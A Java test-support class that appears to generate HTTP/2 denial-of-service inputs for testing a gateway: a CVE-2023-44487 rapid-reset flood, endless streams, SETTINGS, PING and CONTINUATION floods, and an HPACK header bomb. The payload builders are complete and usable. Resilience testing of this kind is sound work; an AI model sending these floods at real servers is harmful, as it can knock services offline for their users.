package io.contactgateway.testing;

/** Frames of HTTP/2 (RFC 9113) by the thousand, a character for each byte. */
final class Http2Floods {
  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, "");
  private static final int MANY = 20_000;

  /** GET, http, / and an authority of one letter, from HPACK's static table. */
  private static final String HEAD = "\u0082\u0086\u0084\u0041\u0001g";

  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;

  private Http2Floods() {}

  /** CVE-2023-44487: streams that are opened and reset at once. */
  static String rapidReset() {
    var text = new StringBuilder(PREFACE);
    for (var stream = 1; stream < 2 * MANY; stream += 2) {
      text.append(frame(1, END_STREAM | END_HEADERS, stream, HEAD));
      text.append(frame(3, 0, stream, "\0\0\0\u0008"));
    }
    return text.toString();
  }

  /** Streams without end, whose answers nobody reads. */
  static String streams() {
    var text = new StringBuilder(PREFACE);
    for (var stream = 1; stream < 2 * MANY; stream += 2) {
      text.append(frame(1, END_HEADERS, stream, HEAD));
    }
    return text.toString();
  }

  static String settings() {
    return PREFACE + frame(4, 0, 0, "\0\u0003\0\0\0d").repeat(MANY);
  }

  static String pings() {
    return PREFACE + frame(6, 0, 0, "12345678").repeat(MANY);
  }

  /** A head that is continued and continued. */
  static String continuations() {
    return PREFACE + frame(1, 0, 1, HEAD) + frame(9, 0, 1, "\0\u0001x\u0001" + "y").repeat(MANY);
  }

  /** A head that refers a small text often (an HPACK bomb). */
  static String largeHead() {
    var value = "\u0040\u0001x\u007f\u0081\u001e" + "y".repeat(4000);
    return PREFACE + frame(1, END_STREAM | END_HEADERS, 1, HEAD + value + "\u00be".repeat(10_000));
  }

  private static String frame(int type, int flags, int stream, String payload) {
    var length = payload.length();
    return bytes(length, 3) + bytes(type, 1) + bytes(flags, 1) + bytes(stream, 4) + payload;
  }

  private static String bytes(int number, int count) {
    var text = new StringBuilder();
    for (var shift = 8 * (count - 1); shift >= 0; shift -= 8) {
      text.append((char) (number >> shift & 0xff));
    }
    return text.toString();
  }
}
